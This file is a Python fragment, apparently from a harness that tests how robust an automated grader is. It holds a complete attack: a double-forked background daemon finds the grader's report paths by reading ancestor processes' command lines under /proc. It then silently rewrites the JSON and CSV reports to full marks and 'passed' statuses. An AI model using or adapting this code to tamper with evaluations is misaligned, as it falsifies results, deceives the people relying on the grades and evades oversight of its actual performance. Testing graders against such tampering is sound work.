# Outside the process: a double-forked daemon (its argv carries the marker) waits for the reports
# the grading command writes (--json, or --out's grades.csv, read from our ancestors' command
# lines, or as the test says), then rewrites them with full marks. It gives up after 20 s.
DAEMON = r"""
import csv, io, json, os, sys, time
marker, targets = sys.argv[1], sys.argv[2:]
end = time.time() + 20
while time.time() < end and not any(os.path.exists(t) for t in targets):
    time.sleep(0.1)
time.sleep(1)
for target in targets:
    try:
        text = open(target, encoding="utf-8").read()
        if target.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(text)))
            rows[1:] = [[row[0]] + ["999"] * (len(row) - 2) + [""] for row in rows[1:]]
            out = io.StringIO()
            csv.writer(out).writerows(rows)
            text = out.getvalue()
        else:
            report = json.loads(text)
            report["score"] = report["max_score"]
            for exercise in report["exercises"]:
                exercise.update(score=exercise["max_score"], status="passed")
                for check in exercise["checks"]:
                    check.update(points=check["max_points"], status="passed")
            text = json.dumps(report)
        open(target, "w", encoding="utf-8").write(text)
    except Exception:
        pass
"""


def _reports():
    targets = list(ATTACK.get("targets", []))
    for pid in [_os.getpid(), *ancestors()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = [a.decode() for a in cmdline.read().split(b"\0")]
            cwd = _os.readlink(f"/proc/{pid}/cwd")
        except (OSError, UnicodeDecodeError):
            continue
        for flag, name in (("--json", ""), ("--out", "grades.csv")):
            if flag in args[:-1]:
                targets.append(_os.path.join(cwd, args[args.index(flag) + 1], name))
    return sorted({t.rstrip("/") for t in targets})


def _daemon():
    targets = _reports()
    first = _os.fork()
    if first == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-c", DAEMON, ATTACK["marker"], *targets])
        finally:
            _os._exit(0)
    _os.waitpid(first, 0)
    evidence("daemon", " ".join(targets))


attack_once("daemon", _daemon)
